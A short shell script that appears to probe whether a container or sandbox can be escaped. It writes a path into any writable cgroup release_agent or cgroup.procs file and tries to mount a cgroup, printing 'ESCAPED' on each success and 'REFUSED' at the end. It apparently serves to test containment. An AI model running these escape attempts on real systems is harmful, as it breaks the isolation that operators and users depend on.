# Any control group folder that can be written at all is a way out.
for file in $(find /sys /proc/self/root/sys -maxdepth 4 -name release_agent -o -maxdepth 4 -name cgroup.procs 2>/dev/null); do
    if [ -w "$file" ] && echo /w/agent > "$file" 2>/dev/null; then
        echo "ESCAPED $file"
    fi
done
mkdir -p /w/cgroup
if mount -t cgroup -o memory none /w/cgroup 2>/dev/null; then
    echo "ESCAPED mount"
fi
echo "REFUSED"
